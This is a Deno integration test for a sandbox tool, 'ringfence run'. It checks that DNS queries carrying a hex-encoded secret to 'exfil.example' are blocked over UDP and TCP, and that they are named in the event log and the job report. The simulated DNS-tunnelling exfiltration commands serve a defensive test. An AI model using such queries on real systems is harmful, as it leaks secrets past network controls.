/**
 * DNS tunnelling end to end through `ringfence run`: a step asks the
 * allowed resolver for names that carry a secret, over UDP and TCP; the
 * queries never reach the resolver, and the events and the job report
 * name them whole. The resolver lives in a network namespace the test
 * creates.
 */
import assert from "node:assert/strict";
import type { NetworkEvent } from "../sensors/network.ts";
import {
  kernelTest,
  readJsonLines,
  ringfence,
  runInDir,
} from "./helpers/kernel.ts";
import { DNS_SERVER, firstLine, TestNetns } from "./helpers/net_harness.ts";
import { digCommand } from "./helpers/net_dns.ts";

kernelTest(
  "ringfence run: DNS queries for names outside the allow-list never leave",
  async () => {
    const dir = await Deno.makeTempDir();
    const netns = await TestNetns.create();
    const queryLog = `${dir}/queries.log`;
    await Deno.writeTextFile(queryLog, "");
    const server = new Deno.Command("ip", {
      args: netns.exec(["python3", DNS_SERVER, "127.0.0.53", "53", queryLog])
        .slice(1),
      stdout: "piped",
      stderr: "null",
    }).spawn();
    try {
      assert.equal(await firstLine(server), "ready");
      await Deno.writeTextFile(
        `${dir}/policy.yaml`,
        [
          "version: 1",
          "mode: block",
          "network:",
          '  allow: ["*.allowed.test"]',
          "  dns:",
          '    resolvers: ["127.0.0.53"]',
          "",
        ].join("\n"),
      );
      const secret = `${"73".repeat(31)}7.${"65".repeat(31)}6.${
        "63".repeat(31)
      }7.a.exfil.example`;
      const dig = (name: string, qtype: string, transport: "udp" | "tcp") =>
        netns.exec(digCommand(name, qtype, transport)).join(" ");
      const script = [
        dig(secret, "16", "udp"),
        dig(secret, "1", "tcp"),
        dig("n1.allowed.test", "1", "udp"),
      ].join("; ");
      const result = await ringfence([
        ...runInDir(dir),
        "/bin/sh",
        "-c",
        script,
      ]);
      assert.deepEqual(
        result.stdout.trim().split("\n"),
        ["query errno 1", "query timeout", "answer 127.1.0.1"],
        result.stderr,
      );
      assert.equal(
        await Deno.readTextFile(queryLog),
        "n1.allowed.test 1 udp\n",
      );
      const refused = (await readJsonLines<NetworkEvent>(
        `${dir}/events.jsonl`,
      )).filter((e) => e.type === "network_event" && e.verdict === "deny");
      assert.deepEqual(
        refused.map((e) => [e.kind, e.query, e.qtype, e.protocol, e.reason]),
        [
          ["dns", secret, "TXT", "udp", "dns_query_not_allowed"],
          ["dns", secret, "A", "tcp", "dns_query_not_allowed"],
        ],
      );
      assert.match(result.stderr, /, 2 blocked, exit 0$/m);
      const report = await Deno.readTextFile(`${dir}/report.md`);
      assert.match(report, /### DNS names asked and refused/);
      assert.ok(report.includes(`\`${secret}\` | TXT |`), report);
      assert.ok(report.includes(`\`${secret}\` | A |`), report);
    } finally {
      server.kill("SIGKILL");
      await server.status;
      await server.stdout.cancel().catch(() => {});
      await netns.close();
      await Deno.remove(dir, { recursive: true });
    }
  },
);
